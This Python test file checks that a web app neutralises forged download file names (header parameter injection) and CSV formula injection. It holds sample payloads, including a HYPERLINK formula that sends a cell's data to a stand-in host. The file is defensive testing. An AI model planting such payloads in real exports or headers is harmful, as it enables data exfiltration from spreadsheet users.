"""Hostile values a person can type or send, second pass: download names that try to add a header parameter, CSV
cells that try to start a formula, a year or a version that is not a number (refused before anything is written, never
a 500 after a commit), and refusals inside the workflow each audited once through the one place."""
from __future__ import annotations

import re

from sqlmodel import select

from models.db import session_scope
from models.tables import Kecamatan, Sop, SopRevisi
from tests.conftest import masuk
from tests.fabrik import nama_pengguna

NAMA_PALSU = "Renja2\";filename*=UTF-8''laporan.html;x=\""


def _satu_nama_berkas(header: str, ekstensi: str) -> str:
    """The header names the file exactly once, as a slug of letters, digits and dashes with `ekstensi`."""
    assert len(re.findall(r";\s*filename\*?\s*=", header, flags=re.IGNORECASE)) == 1, header
    cocok = re.fullmatch(r"(attachment|inline); filename=([a-z0-9-]+\." + ekstensi + ")", header)
    assert cocok is not None, header
    return cocok.group(2)


def test_a_forged_sop_name_gives_one_filename_parameter_a_slug(client, demo):
    with session_scope(demo) as s:
        sop = s.exec(select(Sop).join(Kecamatan, Kecamatan.id == Sop.kecamatan_id)
                     .where(Kecamatan.nama == "Poncokusumo").order_by(Sop.id)).first()
        for rev in s.exec(select(SopRevisi).where(SopRevisi.sop_id == sop.id)).all():
            rev.nama = NAMA_PALSU
            s.add(rev)
        sop_id = sop.id
    masuk(client, nama_pengguna("camat"))
    for ekstensi in ("docx", "pdf"):
        r = client.get(f"/cetak/sop/{sop_id}.{ekstensi}")
        assert r.status_code == 200
        nama = _satu_nama_berkas(r.headers["Content-Disposition"], ekstensi)
        assert nama.startswith("sop-poncokusumo-renja2-filename-utf-8-laporan-html-x-revisi-")


def test_a_forged_attachment_name_is_sent_as_one_slug_with_its_own_extension(client, app, demo):
    from dashboard.data import pengaturan
    from models.tables import Lampiran

    with session_scope(demo) as s:
        kec = s.exec(select(Kecamatan).where(Kecamatan.nama == "Poncokusumo")).one()
        with app.server.app_context():
            folder = pengaturan().upload_dir
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "uji-nama-palsu.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
        lam = Lampiran(pemilik_jenis="realisasi", pemilik_id=1, kecamatan_id=kec.id, nama_berkas=NAMA_PALSU + ".pdf",
                       jenis="application/pdf", ukuran=15, lokasi="uji-nama-palsu.pdf")
        s.add(lam)
        s.flush()
        lam_id = lam.id
    masuk(client, nama_pengguna("camat"))
    r = client.get(f"/lampiran/{lam_id}")
    assert r.status_code == 200
    assert _satu_nama_berkas(r.headers["Content-Disposition"], "pdf") == \
        "renja2-filename-utf-8-laporan-html-x.pdf"


# ---------------------------------------------------------------- CSV: no cell a spreadsheet can split off starts a formula

PEMICU = ("=", "+", "-", "@", "\t", "\r")
REKOMENDASI_CSV = ['Catatan,=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "Catatan;+1+1", "Catatan\t-2+3",
                   'Catatan\n@SUM(A1:A2)', 'Catatan, "=1+1"', "Catatan,\t=1+1", "=awal"]


def _bagian_berbahaya(sel: str) -> bool:
    """A cell (or a part of one) a spreadsheet would read as a formula: it starts, after spaces and quotes, with a
    formula's first character, and is not a plain number."""
    isi = sel.lstrip(' "')
    return isi.startswith(PEMICU) and re.fullmatch(r"[-+]?[\d.,]+", isi.strip()) is None


def test_a_csv_download_read_with_comma_semicolon_or_split_naively_starts_no_formula(client, demo):
    import csv
    import io
    from datetime import date

    from models.tindak_lanjut.evaluasi import RekomendasiBaru, catat_evaluasi_lengkap
    from tests.fabrik import kantor, pengguna

    with session_scope(demo) as s:
        catat_evaluasi_lengkap(s, kecamatan_id=kantor(s).id, jenis="evaluasi", tahun=2025, triwulan=2,
                               tanggal=date(2025, 7, 20), peserta="Tim", temuan="-", oleh=pengguna(s, peran="tim"),
                               rekomendasi=[RekomendasiBaru(t, "kasi_pem", date(2025, 8, 30)) for t in REKOMENDASI_CSV])
    masuk(client, nama_pengguna("camat"))
    teks = client.get("/unduh/tl-daftar.csv?tahun=2025&triwulan=2").data.decode("utf-8-sig")
    baris = list(csv.reader(io.StringIO(teks), delimiter=";"))
    kolom = baris[0].index("Rekomendasi")
    # Every text field is quoted; read as written, each recommendation comes back whole, only its parts neutralised.
    assert all(b.startswith('"') for b in teks.split("\r\n") if b)
    dibaca = sorted(b[kolom] for b in baris[1:])
    assert dibaca == sorted([
        "Catatan,'=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\")", "Catatan;'+1+1", "Catatan\t'-2+3",
        "Catatan\n'@SUM(A1:A2)", "Catatan, \"'=1+1\"", "Catatan,'\t'=1+1", "'=awal"])
    for pemisah in (",", ";", "\t"):
        for b in csv.reader(io.StringIO(teks), delimiter=pemisah):
            assert not [sel for sel in b if _bagian_berbahaya(sel)], (pemisah, b)
    for bagian in re.split(r"[,;\t\r\n]", teks):  # a reader that splits on every separator and line, quotes or not
        assert not _bagian_berbahaya(bagian), bagian
